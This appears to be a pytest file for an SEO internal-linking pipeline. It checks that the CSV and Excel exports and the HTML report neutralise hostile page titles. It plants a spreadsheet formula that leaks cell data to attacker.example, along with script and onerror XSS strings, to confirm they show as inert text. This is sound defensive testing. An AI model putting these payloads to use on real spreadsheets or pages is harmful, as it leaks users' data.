"""Spreadsheet exports and the HTML report: they open safely, and the charts draw in a real browser."""

import dataclasses
import json
import re
from dataclasses import dataclass
from pathlib import Path

import dagster as dg
import duckdb
import numpy as np
import openpyxl
import polars as pl
import pytest
from playwright.sync_api import expect

from interlink_pipeline.core.graph.planner import REASON_WORDS
from interlink_pipeline.core.numbers import significant
from interlink_pipeline.core.publish import exports, report, report_parts, review_sections
from interlink_pipeline.core.publish.plan_table import SHOWN_COLUMNS
from interlink_pipeline.core.publish.publication import publish, read_manifest, release_root, staged_folder
from interlink_pipeline.core.warehouse.vocabularies import PLAN_REASONS
from interlink_pipeline.defs.writes import readable
from interlink_pipeline_tests.helpers import LIGHT, opened, register_lightchiropractic, run_site

INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
TARGET_PAGE = "https://www.lightchiropractic.sg/treatment/lower-back-pain/"
ROOT = "https://www.lightchiropractic.sg/"
# titles of pages the home page links in its content (so drawn as hubs): text to show, never markup to run
MARKUP = {
    f"{ROOT}about/": "<script>alert(1)</script>",
    f"{ROOT}contact/": "<img src=x onerror=alert(1)>",
    f"{ROOT}chiropractor-prices-singapore/": '"Quotes" & ampersands',
    f"{ROOT}headaches-and-migraines/": "<b>Headaches</b> &amp; Migraines",
    f"{ROOT}ankle-and-knee-pain/": '<a href="//x.example">Knee</a>',
}


@dataclass
class PlannedSite:
    exports: Path  # the site's export folder
    warehouse: Path
    instance: dg.DagsterInstance


@pytest.fixture(scope="session")
def planned_site(crawls, encoder, tmp_path_factory):
    """lightchiropractic with a formula and markup planted in page titles, run once through the whole
    pipeline: every test here reads the same run."""
    root = tmp_path_factory.mktemp("planned")
    titles = {TARGET_PAGE: INJECTED, **MARKUP}
    export = pl.read_csv(crawls / "lightchiropractic/internal_all.csv", infer_schema=False).with_columns(
        pl.col("Address").replace_strict(titles, default=pl.col("Title 1")).alias("Title 1")
    )
    crawl = root / "internal_all.csv"
    export.write_csv(crawl)
    inbox, warehouse = root / "inbox", root / "warehouse" / "interlink.duckdb"
    inbox.mkdir()
    register_lightchiropractic(inbox, crawls, crawl)
    with dg.instance_for_test() as instance:
        result = run_site(warehouse, inbox, instance, LIGHT)
        assert result.success
        yield PlannedSite(warehouse.parent / "exports" / LIGHT, warehouse, instance)


def test_exports_open_with_headers_fitted_columns_and_no_formulas(planned_site):
    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
        plan_rows = con.execute("SELECT count(*) FROM marts.link_opportunities").fetchone()[0]
        pair_rows = con.execute("SELECT count(*) FROM ml.similarity_pairs").fetchone()[0]
    folder = planned_site.exports
    assert sorted(p.name for p in folder.iterdir()) == [
        ".export_digests.json",
        "changes_since_last_run.csv",
        "for_an_editor.csv",
        "interlink_plan.xlsx",
        "link_plan.csv",
        "new_since_review.csv",
        "published.json",
        "report.html",
        "similar_pages.csv",
        "to_do.csv",
        "topics.csv",
    ]
    raw = (folder / "similar_pages.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfpage_url,page_title,")  # BOM, header row
    assert pl.read_csv(folder / "similar_pages.csv").height == pair_rows
    planted = {
        cell
        for name in ("link_plan", "to_do", "similar_pages", "topics")
        for column in pl.read_csv(folder / f"{name}.csv", infer_schema=False).iter_columns()
        for cell in column.drop_nulls()
        if "HYPERLINK" in cell
    }
    assert planted == {"'" + INJECTED}  # shown as text, never evaluated

    workbook = openpyxl.load_workbook(folder / "interlink_plan.xlsx")
    assert workbook.sheetnames == [
        "read_me", "link_plan", "to_do", "similar_pages", "topics", "new_since_review",
        "changes_since_last_run", "for_an_editor",
    ]  # fmt: skip
    # the pages left for an editor, each with why, as graph.page_metrics says
    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
        left = con.execute(
            "SELECT url, left_for_editor FROM graph.page_metrics "
            "WHERE left_for_editor IS NOT NULL ORDER BY url"
        ).fetchall()
    editor = pl.read_csv(folder / "for_an_editor.csv").sort("url")
    assert editor.select("url", "why").rows() == left
    assert set(editor["problem"]) <= {"orphan", "too deep", "unreachable", "near-duplicate"}
    said = {row[0]: row[1] for row in workbook["read_me"].iter_rows(min_row=2, values_only=True)}
    assert "interlink decisions import" in said["link_plan"] and "high / medium / low" in said["confidence"]
    sheet = workbook["link_plan"]
    assert sheet.max_row == plan_rows + 1 and sheet["A1"].value == "link_id" and sheet["A1"].font.b
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert 10 < sheet.column_dimensions["A"].width <= exports.MAX_COLUMN_WIDTH + 2
    cells = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    # numbers to 4 significant digits: 0.0931, never the float32's 0.09309999644756317
    numbers = [
        c.value for sheet in workbook for row in sheet.iter_rows() for c in row if type(c.value) is float
    ]
    assert numbers and [value for value in numbers if value != significant(value)] == []
    # never 1.6E-06: probabilities as percentages, other fractions to 3 places, integers as integers
    formats = {(c.number_format, c.value == int(c.value)) for sheet in workbook
               for row in sheet.iter_rows(min_row=2) for c in row if type(c.value) is float}  # fmt: skip
    assert {f for f, _ in formats} <= {"0.0%", "0.000", "0"} and ("0", False) not in formats
    header = [cell.value for cell in sheet[1]]
    assert {"confidence", "target_inlinks", "in_navigation"} <= set(header)
    # the one column editors fill in has a dropdown; a URL opens its page
    (rule,) = sheet.data_validations.dataValidation
    column = openpyxl.utils.get_column_letter(header.index("decision") + 1)
    assert rule.type == "list" and rule.formula1 == '"accept,reject"' and str(rule.sqref).startswith(column)
    url = sheet.cell(2, header.index("target_url") + 1)
    assert url.hyperlink is not None and url.hyperlink.target == url.value
    # the work list, page by page: each page's links together, every other page shaded
    todo = workbook["to_do"]
    columns = [cell.value for cell in todo[1]]
    rows = list(todo.iter_rows(min_row=2))
    pages = [row[columns.index("source_url")].value for row in rows]
    assert pages == sorted(pages) and rows[0][columns.index("step")].value.startswith("1 of ")
    shaded = {page: row[0].fill.fgColor.rgb for page, row in zip(pages, rows, strict=True)}
    order = list(dict.fromkeys(pages))
    assert len({shaded[p] for p in order[0::2]}) == len({shaded[p] for p in order[1::2]}) == 1
    assert shaded[order[0]] != shaded[order[1]]


def test_people_read_four_significant_digits_and_the_warehouse_keeps_the_rest(tmp_path):
    frame = pl.DataFrame(
        {
            "probability": [0.30000000000000004, 0.123456789],
            "pagerank": [1.23456789e-5, 2 / 3],
            "score": pl.Series([0.0931, 0.5], dtype=pl.Float32),
        }
    )
    printed = pl.read_csv(exports.write_csv(frame, tmp_path / "plan.csv"))
    assert printed.rows() == [(0.3, 1.235e-05, 0.0931), (0.1235, 0.6667, 0.5)]
    metadata = readable(
        {
            "share": 0.30000000000000004,
            "recall": dg.MetadataValue.float(2 / 3),
            "seconds_by_step": dg.MetadataValue.json({"plan": 1.23456, "steps": [1 / 3]}),
            "pages": 12345,
            "path": dg.MetadataValue.path("/tmp/x"),
        }
    )
    assert metadata["share"] == 0.3 and metadata["recall"].value == 0.6667 and metadata["pages"] == 12345
    assert metadata["seconds_by_step"].data == {"plan": 1.235, "steps": [0.3333]}
    assert metadata["path"].value == "/tmp/x"


def _export_and_publish(folder: Path, tables: dict[str, pl.DataFrame], run_id: str) -> exports.ExportRun:
    """The exports as a run writes them (staged) and its last step publishes them."""
    written = exports.write_exports(folder, tables, "plan.xlsx", into=staged_folder(folder, run_id))
    publish(folder, run_id, {"site": "shop.example"})
    return written


def test_exports_rewrite_only_the_files_whose_rows_changed(tmp_path):
    folder = tmp_path / "shop.example"  # the site's published folder
    tables = {
        "link_plan": pl.DataFrame({"source_url": ["/a", "/b"], "probability": [0.5, 0.25]}),
        "topics": pl.DataFrame({"label": ["Boots", "Tents"], "top_terms": [["boot"], ["tent", "camp"]]}),
    }
    first = _export_and_publish(folder, tables, "run-1")
    assert first.written == ["link_plan", "topics", "workbook"] and not first.unchanged
    assert first.sheets == {"read_me": len(exports.READ_ME), "link_plan": 2, "topics": 2}
    stamps = {name: path.stat().st_mtime_ns for name, path in first.files.items()}
    again = _export_and_publish(folder, {name: frame.clone() for name, frame in tables.items()}, "run-2")
    assert again.written == [] and again.unchanged == ["link_plan", "topics", "workbook"]
    assert {name: path.stat().st_mtime_ns for name, path in again.files.items()} == stamps
    assert read_manifest(folder)["run_id"] == "run-2"
    changed = {**tables, "link_plan": tables["link_plan"].with_columns(pl.col("probability") * 2)}
    (folder / "topics.csv").unlink()  # a file someone removed is written again
    # staged, not yet published: the files people open are still the last run's
    third = exports.write_exports(folder, changed, "plan.xlsx", into=staged_folder(folder, "run-3"))
    assert third.written == ["link_plan", "topics", "workbook"]
    assert pl.read_csv(folder / "link_plan.csv")["probability"].to_list() == [0.5, 0.25]
    publish(folder, "run-3", {})
    assert pl.read_csv(folder / "link_plan.csv")["probability"].to_list() == [1.0, 0.5]
    book = openpyxl.load_workbook(folder / "plan.xlsx")
    assert [book["link_plan"].cell(r, 2).value for r in (2, 3)] == [1.0, 0.5]
    assert _export_and_publish(folder, changed, "run-4").written == []
    assert sorted(p.name for p in folder.iterdir()) == [
        ".export_digests.json", "link_plan.csv", "plan.xlsx", "published.json", "topics.csv"
    ]  # fmt: skip


def test_a_url_longer_than_a_workbook_cell_is_cut_there_and_whole_in_the_csv(tmp_path):
    url = "https://shop.example/search?q=" + "x" * 44_208  # 44,238 characters, as a crawl held one
    tables = {"link_plan": pl.DataFrame({"source_url": [url, "/b"], "target_url": ["/c", url]})}
    written = exports.write_exports(tmp_path, tables, "plan.xlsx", into=tmp_path / "staged")
    assert written.cut_cells == 2 and written.sheets == {"read_me": len(exports.READ_ME), "link_plan": 2}
    book = openpyxl.load_workbook(tmp_path / "staged" / "plan.xlsx")
    cell = book["link_plan"].cell(2, 1).value
    assert len(cell) == exports.XLSX_MAX_CELL_CHARS and cell == url[: len(cell) - 1] + "…"
    assert pl.read_csv(tmp_path / "staged" / "link_plan.csv")["source_url"][0] == url


def test_a_sheet_past_the_row_limit_continues_on_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 4)
    frame = pl.DataFrame({"url": [f"/p{i}" for i in range(10)], "note": ["+1", "-x", "@a", "ok", None] * 2})
    assert exports.write_xlsx({"pairs": frame}, tmp_path / "out.xlsx") == (
        {"pairs": 4, "pairs (2)": 4, "pairs (3)": 2},
        0,
    )
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert [book["pairs"].cell(r, 2).value for r in range(2, 6)] == ["'+1", "'-x", "'@a", "ok"]
    assert not list(tmp_path.glob(".*partial"))


def test_the_report_draws_its_charts_in_headless_chromium_without_network(planned_site, tmp_path):
    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
        shown = con.execute("SELECT least(count(*), 25) FROM marts.link_opportunities").fetchone()[0]
        topics = con.execute(
            "SELECT label, median_inlinks_before FROM marts.cluster_summary ORDER BY median_inlinks_before, "
            "size DESC, label"
        ).fetchall()

    with opened(planned_site.exports / "report.html") as report:
        page = report.page
        listed = [row.locator("td").first.inner_text() for row in page.locator("#topics tbody tr").all()]
        drawn = {
            "points": page.locator("#topic-map circle").count(),
            "topics": page.locator("#topic-map .legend li").count(),
            "depth bars": page.locator("#depth-chart rect.bar").count(),
            "health bars": page.locator("#health-chart rect.bar").count(),
            "hubs": page.locator("#hub-tree .hubs > li").count(),
            "rows": page.locator("#plan tbody tr").count(),
            "header": page.locator(".facts").inner_text(),
            # the table, its column filter boxes included, fits the page: no column is pushed out of view
            "fits": page.evaluate(
                "document.querySelector('#plan').offsetWidth"
                " <= document.querySelector('#plan_wrapper').clientWidth"
            ),
        }
        # pointing at a topic's name in the legend picks its points out of the map
        page.locator("#topic-map .legend li").nth(1).hover()
        picked = page.locator("#topic-map svg.picking g.topic.picked").get_attribute("data-topic")
        shot = page.screenshot(path=str(tmp_path / "report.png"), full_page=True)
    assert report.refused == []  # everything the page needs is in the file
    # the topics as a table, the least linked first, no two named alike
    assert listed == [label for label, _ in topics] and len(set(listed)) == len(listed) > 1
    assert drawn["points"] >= 90 and drawn["topics"] >= 2  # the kept pages, coloured by topic
    assert drawn["depth bars"] >= 6 and drawn["health bars"] == 4  # before and after
    assert drawn["hubs"] >= 1 and drawn["rows"] == shown > 0  # the plan, 25 links a page
    assert "crawl " in drawn["header"] and "plan made 20" in drawn["header"] and "run " in drawn["header"]
    assert drawn["fits"]
    assert picked == "1"
    assert len(shot) > 100_000  # a page of drawn charts, not a blank one
    # no chart library in the file: the charts are SVG, drawn before the file is written
    assert (planned_site.exports / "report.html").stat().st_size < 2_000_000


def test_the_plan_table_is_one_line_a_row_sorts_filters_searches_expands_and_downloads(
    planned_site, tmp_path
):
    assert list(REASON_WORDS) == list(PLAN_REASONS)  # every reason has its words
    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
        plan = con.execute("SELECT * FROM marts.link_opportunities").pl()
    plan = plan.with_columns(pl.col("target_url").str.replace(r"^https?://[^/]*", "").alias("target_path"))
    rescued = plan.filter(pl.col("reason") == "orphan-rescue")
    # a page the plan links to, other than a hub (which reasons a site's plan has depends on its ranker)
    target = plan.filter(pl.col("reason") != "hub").sort("target_url").row(0, named=True)
    linking_to = plan.filter(pl.col("target_path").str.contains(target["target_path"], literal=True)).height
    shown = list(SHOWN_COLUMNS.values())
    with opened(planned_site.exports / "report.html") as report:
        page = report.page
        page.set_viewport_size({"width": 1280, "height": 900})
        info = page.locator("#plan_wrapper .dt-info")
        assert f"of {plan.height:,} entries" in info.inner_text()
        # one line a row, the table within the page
        lines = page.evaluate(  # each row's height, and the most lines of text a cell of it takes
            "[...document.querySelectorAll('#plan tbody tr')].map(r => [r.offsetHeight,"
            " Math.max(...[...r.cells].map(c => { const range = document.createRange();"
            " range.selectNodeContents(c);"
            " return new Set([...range.getClientRects()].map(b => Math.round(b.top))).size; }))])"
        )
        fits = page.evaluate(
            "document.querySelector('#plan').offsetWidth"
            " <= document.querySelector('#plan_wrapper').clientWidth"
        )
        headers = page.locator("#plan thead th").all_inner_texts()
        # every column sorts
        for name in shown:
            header = page.locator("#plan thead th").nth(shown.index(name))
            header.click()
            expect(header).to_have_attribute("aria-sort", "ascending")
        # the most probable first: the probability header twice
        header = page.locator("#plan thead th", has_text="prob. %")
        header.click()
        expect(header).to_have_attribute("aria-sort", "ascending")
        header.click()
        expect(header).to_have_attribute("aria-sort", "descending")  # drawn so before its first row is read
        first = float(
            page.locator("#plan tbody tr").first.locator("td").nth(shown.index("prob. %")).inner_text()
        )
        # a click opens the row: its sentence or place, why, and both pages in full
        page.locator("#plan tbody tr").first.click()
        expansion = page.locator("#plan tbody tr.expansion").inner_text()
        page.locator("#plan tbody tr").first.click()
        closed = page.locator("#plan tbody tr.expansion").count()
        # search by reason, in words (a hidden column, searched too)
        search = page.locator("#plan_wrapper input[type=search]")
        search.fill("orphan rescue")
        expect(info).to_contain_text("filtered")
        filtered = info.inner_text()
        whys = page.evaluate(
            "[...document.querySelectorAll('#plan tbody tr.expandable')]"
            ".map(r => Object.fromEntries(JSON.parse(r.dataset.expansion)).why)"
        )
        # search a URL, and download what is shown
        search.fill(target["target_url"])
        expect(info).not_to_have_text(filtered)  # redrawn
        found = [row.inner_text() for row in page.locator("#plan tbody tr").all()]
        with page.expect_download() as download:
            page.get_by_text("Download CSV").click()
        downloaded = pl.read_csv(download.value.path()).filter(pl.col("on page").is_not_null())
        # one column filtered: the box under "link to", typed into
        search.fill("")
        page.locator("#plan_wrapper tfoot input").nth(shown.index("link to")).press_sequentially(
            target["target_path"]
        )
        expect(info).to_contain_text(re.compile(rf"of {linking_to:,} entr(y|ies) \(filtered"))
        by_column = {row.locator("td").nth(2).inner_text() for row in page.locator("#plan tbody tr").all()}
    assert headers == shown and fits
    assert len(lines) == min(plan.height, 25) and {height for height, _ in lines} == {lines[0][0]}
    assert {most for _, most in lines} == {1}  # every row the same height, one line of text in each cell
    assert first == round(plan["probability"].max() * 100, 1)  # as a percentage
    best = plan.sort(["probability", "score"], descending=True, nulls_last=True).row(0, named=True)
    assert best["target_url"] in expansion and best["source_url"] in expansion and "why" in expansion
    assert closed == 0
    assert rescued.height > 0
    assert f"of {rescued.height:,} entries (filtered from {plan.height:,} total" in filtered
    assert whys and all(why.startswith(REASON_WORDS["orphan-rescue"]) for why in whys)
    assert found and all(target["target_path"] in row for row in found)
    assert downloaded.columns[:3] == ["on page", "anchor", "link to"] and "link to URL" in downloaded.columns
    assert downloaded.height == len(found) < plan.height  # the rows shown, not the whole plan
    assert all(target["target_url"] in " ".join(map(str, row)) for row in downloaded.rows())
    assert target["target_path"] in by_column and all(target["target_path"] in path for path in by_column)


def test_the_hub_chart_draws_the_hubs_the_home_page_links_already(planned_site):
    # the crawl's own answer: the pages the home page's content links, and the hubs the plan adds
    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
        linked = con.execute(
            "SELECT DISTINCT p.page_id FROM raw.crawl_links l "
            "JOIN staging.pages home ON home.url = l.source_url AND home.is_home "
            "JOIN staging.pages p ON p.url = l.target_url AND p.page_id <> home.page_id "
            "WHERE l.link_position = 'Content' AND l.follow AND l.link_type = 'Hyperlink'"
        ).fetchall()
        planned = con.execute(
            "SELECT target_page_id FROM marts.link_opportunities WHERE reason = 'hub'"
        ).fetchall()
    linked, planned = {p for (p,) in linked}, {p for (p,) in planned}
    assert len(linked) >= 5 and not linked & planned  # the plan adds hubs beside those, never again

    with opened(planned_site.exports / "report.html") as report:
        hubs = report.page.locator("#hub-tree .hubs > li")
        children = {hub.get_attribute("data-page"): hub.locator("li").all_inner_texts() for hub in hubs.all()}
        # a hub folds and opens again: a click on its name hides its pages, a second shows them
        busiest = hubs.nth(max(range(hubs.count()), key=lambda i: hubs.nth(i).locator("li").count()))
        pages = busiest.locator("li")
        busiest.locator("summary").click()
        folded = [page.is_visible() for page in pages.all()]
        busiest.locator("summary").click()
        unfolded = [page.is_visible() for page in pages.all()]
    assert set(children) == linked | planned  # every hub, linked now or planned
    assert folded and not any(folded) and all(unfolded)


def test_titles_holding_markup_show_as_text_and_run_nothing(planned_site, tmp_path):
    from interlink_pipeline.core.publish.warehouse_reads import report_data

    titles = set(MARKUP.values())
    # escaped everywhere in the published file, the charts' JSON too: no title can close its <script>
    written = (planned_site.exports / "report.html").read_text()
    assert [title for title in titles if title in written] == []
    # the plan table holds every one, whichever pages this plan links: its first rows carry them
    data = report_data(planned_site.warehouse, LIGHT, "run", lock_timeout_s=10)
    names = dict(enumerate(sorted(titles)))
    assert data.plan.height >= len(names)
    row = pl.int_range(pl.len())
    plan = data.plan.sort("link_id").with_columns(
        pl.when(row < len(names)).then(row.replace_strict(names, default="")).otherwise("source_title")
        .alias("source_title")
    )  # fmt: skip
    path = report.render(dataclasses.replace(data, plan=plan), tmp_path / "report.html")
    assert [title for title in titles if title in path.read_text()] == []

    with opened(path) as shown_report:
        page = shown_report.page
        shown = {
            "#hub-tree": [
                t for t in titles if page.locator("#hub-tree").get_by_text(t, exact=True).first.is_visible()
            ]
        }
        shown["#plan"] = []
        shown["#drilldown-view"] = []
        for url, title in MARKUP.items():  # each page picked: its title heads the view, as written
            _drill_to(page, url)
            if page.locator("#drilldown-view h3").inner_text() == title:
                shown["#drilldown-view"].append(title)
        for title in titles:  # searched for, its row opened: the title in the row's expansion
            # (the search box reads quotes as a phrase's: the title's longest part between them)
            page.locator("#plan_wrapper input[type=search]").fill(max(title.split('"'), key=len))
            page.locator("#plan tbody tr.expandable").first.click()
            if page.locator("#plan tr.expansion").get_by_text(title, exact=True).first.is_visible():
                shown["#plan"].append(title)
        injected = page.locator("img[src=x], svg a, #plan b, #plan script, #drilldown-view b").count()
    assert shown_report.dialogs == [] and injected == 0  # no script ran, no element was made from a title
    # each title reads as it is written, markup and entities too
    assert sorted(shown["#hub-tree"]) == sorted(titles)
    assert sorted(shown["#plan"]) == sorted(titles)
    assert sorted(shown["#drilldown-view"]) == sorted(titles)


def test_the_plan_is_published_before_its_backtest_and_the_measurement_follows(planned_site):
    def materialized(key: str):
        return planned_site.instance.get_latest_materialization_event(dg.AssetKey(key.split("/")))

    steps = [materialized(key) for key in ("published_files", "graph/backtest_runs", "published_measurement")]
    run_id = steps[0].run_id
    first = planned_site.exports.parent / ".releases" / LIGHT / run_id / "report.html"
    manifest = json.loads((planned_site.exports / "published.json").read_text())
    published = (planned_site.exports / "report.html").read_text()
    # the plan went out first, said to be under measurement; the measured report replaced it, same run
    assert [step.run_id for step in steps] == [run_id] * 3
    assert steps[0].timestamp < steps[1].timestamp < steps[2].timestamp
    assert 'id="being-measured"' in first.read_text()
    assert 'id="being-measured"' not in published and '<table id="backtest">' in published
    assert planned_site.exports.resolve().name == f"{run_id}-measured" and manifest["run_id"] == run_id
    assert manifest["backtest"]["run_id"] == run_id


def test_the_report_metadata_is_a_path_not_a_dead_file_link_or_a_link_where_it_is_served(
    planned_site, monkeypatch
):
    from interlink_pipeline.defs.publish.reports import report_link

    materialization = planned_site.instance.get_latest_materialization_event(dg.AssetKey("html_report"))
    metadata = materialization.asset_materialization.metadata
    report = planned_site.exports / "report.html"
    assert metadata["report"] == dg.MetadataValue.path(str(report.absolute()))  # the file people open
    # a browser opens no file:// link from the UI's http page: none is offered
    assert not [key for key, value in metadata.items() if "file://" in str(value.value)]
    # where a web server serves the exports folder, the UI links the report
    monkeypatch.setenv("INTERLINK_EXPORTS_URL", "http://127.0.0.1:8001/")
    assert report_link(LIGHT, report) == {
        "report_url": dg.MetadataValue.url(f"http://127.0.0.1:8001/{LIGHT}/report.html")
    }


def test_the_report_says_what_changed_since_the_last_run():
    changes = pl.DataFrame(
        {
            "change": ["kept", "kept", "kept", "removed", "added"],
            "why": ["still valid"] * 3 + ["page removed", "its source page is new in this crawl"],
            "source_url": ["/a", "/b", "/c", "/gone<script>", "/d"],
            "target_url": ["/x", "/y", "/z", "/x", "/gone-too"],
            "reason": ["topical"] * 5,
        }
    )
    data = report_parts.ReportData(
        "s", pl.DataFrame(), np.zeros((0, 2)), pl.DataFrame(), pl.DataFrame(), pl.DataFrame(), pl.DataFrame()
    )
    assert "first plan" in review_sections.changes_section(data)
    section = review_sections.changes_section(dataclasses.replace(data, changes=changes))
    assert "3 of the previous plan's 4 links are kept (75.0%)" in section
    assert (
        "<td>page removed</td>" in section and "/gone&lt;script&gt;" in section and "<script>" not in section
    )
    first_plan = changes.with_columns(pl.lit("added").alias("change"))
    assert "first plan" in review_sections.changes_section(dataclasses.replace(data, changes=first_plan))


def _drill_to(page, url: str) -> dict[str, dict[str, set[str]]]:
    """Pick `url` in the drill-down; the URLs it lists by table (in, out) and kind (now, planned)."""
    picker = page.locator("#drilldown-page")
    picker.fill(url)
    picker.press("Enter")
    expect(page.locator("#drilldown-view .page-url")).to_have_text(url)
    return _drilled(page)


def _drilled(page) -> dict[str, dict[str, set[str]]]:
    tables = page.locator("#drilldown-view table").all()
    return {
        side: {
            kind: {row.locator(".url").inner_text() for row in table.locator(f"tbody tr.{kind}").all()}
            for kind in ("now", "planned")
        }
        for side, table in zip(("in", "out"), tables, strict=True)
    }


def test_the_drilldown_shows_a_pages_links_in_and_out_before_and_after(planned_site):
    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
        plan = con.execute("SELECT source_url, target_url FROM marts.link_opportunities").pl()
        content = con.execute(
            "SELECT DISTINCT s.url AS source_url, t.url AS target_url FROM raw.crawl_links l "
            "JOIN staging.pages s ON s.url = l.source_url JOIN staging.pages t ON t.url = l.target_url "
            "WHERE l.link_position = 'Content' AND l.follow AND l.link_type = 'Hyperlink' AND s.url <> t.url"
        ).pl()
        scorecard = con.execute("SELECT url, depth_before, depth_after FROM marts.page_scorecard").pl()
    # the page the plan links to most of those linked in content now, and one of the pages linking it
    linked = plan.join(content.select("target_url").unique(), on="target_url")
    target = linked["target_url"].value_counts(sort=True)["target_url"][0]
    source = plan.filter(pl.col("target_url") == target)["source_url"].sort()[0]

    def expected(url: str) -> dict[str, dict[str, set[str]]]:
        def ends(frame: pl.DataFrame, at: str, other: str) -> set[str]:
            return set(frame.filter(pl.col(at) == url)[other])

        return {
            "in": {
                "now": ends(content, "target_url", "source_url"),
                "planned": ends(plan, "target_url", "source_url"),
            },
            "out": {
                "now": ends(content, "source_url", "target_url"),
                "planned": ends(plan, "source_url", "target_url"),
            },
        }

    depth = scorecard.filter(pl.col("url") == target).row(0, named=True)
    with opened(planned_site.exports / "report.html") as report:
        page = report.page
        shown = _drill_to(page, target)
        figures = page.locator("#drilldown-view p").nth(1).inner_text()
        # a listed page is a step further: a click shows its own links
        links_in = page.locator("#drilldown-view table").first
        links_in.locator("tr.planned").filter(has=page.get_by_text(source, exact=True)).locator(
            "button"
        ).click()
        expect(page.locator("#drilldown-view .page-url")).to_have_text(source)
        followed = _drilled(page)
    assert shown == expected(target) and shown["in"]["planned"] and shown["in"]["now"]
    assert f"clicks from home {depth['depth_before']} → {depth['depth_after']}" in figures
    assert followed == expected(source) and target in followed["out"]["planned"]


def test_the_page_view_marks_the_anchor_in_its_sentence_and_lists_the_links_into_a_page(
    planned_site, tmp_path
):
    from interlink_pipeline.core.publish.warehouse_reads import report_data

    data = report_data(planned_site.warehouse, LIGHT, "run", lock_timeout_s=10)
    # lightchiropractic has no page text: one link is given a sentence (with markup, to show as text),
    # whose anchor stands first inside a longer word, which the mark passes over
    first = data.plan.sort("source_url", "target_url").row(0, named=True)
    lead = f"See <b>our</b> pre{first['anchor_text']} notes on "
    sentence = f"{lead}{first['anchor_text']} before you book."
    placed = pl.col("link_id") == first["link_id"]
    plan = data.plan.with_columns(
        pl.when(placed).then(pl.lit(sentence)).otherwise("sentence").alias("sentence"),
        pl.when(placed).then(pl.lit("contextual")).otherwise("placement").alias("placement"),
    )
    path = report.render(dataclasses.replace(data, plan=plan), tmp_path / "report.html")
    target = plan["target_url"].value_counts(sort=True)["target_url"][0]
    with opened(path) as shown:
        page = shown.page
        text = page.locator("body").inner_text()
        _drill_to(page, first["source_url"])
        action = page.locator("#drilldown-view li.action").filter(
            has=page.get_by_text(first["target_url"], exact=True)
        )
        marked = action.locator(".sentence mark").inner_text()
        before_mark = action.locator(".sentence").evaluate("p => p.firstChild.textContent")
        said = action.locator(".sentence").inner_text()
        related = page.locator("#drilldown-view li.action .sentence").all_inner_texts()
        injected = page.locator("#drilldown-view b").count()
        page.get_by_label("links into this page").check()
        _drill_to(page, target)
        sources = {url.inner_text() for url in page.locator("#drilldown-view li.action .url").all()}
    assert marked == first["anchor_text"] and said == sentence and injected == 0 and before_mark == lead
    # a link with no sentence says where it goes
    others = plan.filter((pl.col("source_url") == first["source_url"]) & ~placed)
    assert (
        sum(line.startswith("Add to the page's related links: ") for line in related)
        == others.filter(pl.col("placement") == "related").height
    )
    assert sources == set(plan.filter(pl.col("target_url") == target)["source_url"])
    # no probability in scientific notation (the header's run id, a UUID, may hold "4e-3": not a number)
    numbers = re.sub(r"\b[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}\b", "run id", text)
    assert not re.search(r"\d[eE]-\d", numbers)


def test_a_site_folder_from_before_releases_is_switched_once_and_kept_until_the_next(tmp_path):
    """An installation published before releases has a real folder of files: the first publication keeps
    them (linked into its release, the folder kept as the release it replaced); the next removes it
    quietly."""
    folder = tmp_path / "shop.example"
    folder.mkdir()
    (folder / "report.html").write_text("the old report")
    (folder / "published.json").write_text('{"run_id": "old"}')
    first = publish(folder, "run-1", {"site": "shop.example"})
    assert folder.is_symlink() and (folder / "report.html").read_text() == "the old report"
    assert read_manifest(folder)["run_id"] == "run-1" and first.removed == []
    kept = read_manifest(folder)["replaced_run"]
    assert kept.startswith("before-releases-") and (release_root(folder) / kept / "report.html").exists()
    second = publish(folder, "run-2", {"site": "shop.example"})
    assert second.removed == [] and sorted(p.name for p in release_root(folder).iterdir()) == [
        "run-1",
        "run-2",
    ]


def test_a_published_plan_is_stale_once_a_newer_crawl_is_registered_or_past_its_age():
    from datetime import UTC, datetime, timedelta

    from interlink_pipeline.core.environment import Environment
    from interlink_pipeline.core.errors import InputError
    from interlink_pipeline.core.publish.freshness import plan_freshness, plan_max_age

    now = datetime(2026, 11, 29, 12, tzinfo=UTC)
    # the plan's own time counts (naive UTC, as the warehouse keeps it), not its last publication's
    published = {
        "published_at": "2026-11-28T12:00:00+00:00",
        "plan_computed_at": "2026-11-01 12:00:00",
        "crawl_id": "a1",
    }
    fresh = plan_freshness(published, "a1", now, timedelta(days=30))
    assert (
        fresh.fresh and fresh.said == "fresh: the plan of the crawl registered now, made 2026-11-01 12:00 UTC"
    )
    old = plan_freshness(published, "a1", now, timedelta(days=7))
    assert (
        not old.fresh and old.said == "stale: the plan was made 2026-11-01 12:00 UTC, over the 7 days allowed"
    )
    newer = plan_freshness(published, "b2", now, timedelta(days=30))
    assert not newer.fresh and "is of crawl a1, and a newer crawl (b2) is registered" in newer.said
    unknown = plan_freshness(published, None, now, timedelta(days=30))  # no crawl found to compare with
    assert (
        unknown.fresh
        and unknown.said.startswith("fresh by its age")
        and "no crawl is registered" in unknown.said
    )
    assert plan_freshness(None, "a1", now, timedelta(days=30)).said == "no plan is published yet"
    assert plan_max_age(Environment(INTERLINK_PLAN_MAX_AGE_DAYS="7")) == timedelta(days=7)
    assert plan_max_age(Environment(INTERLINK_PLAN_MAX_AGE_DAYS="36500")) == timedelta(days=36_500)
    for value in ("two", "0", "36501", "1000000000", "99999999999", "²", "٣"):  # Python's digits, not ours
        with pytest.raises(
            InputError, match=r"\$INTERLINK_PLAN_MAX_AGE_DAYS must be a whole number of days from 1 "
        ):
            plan_max_age(Environment(INTERLINK_PLAN_MAX_AGE_DAYS=value))


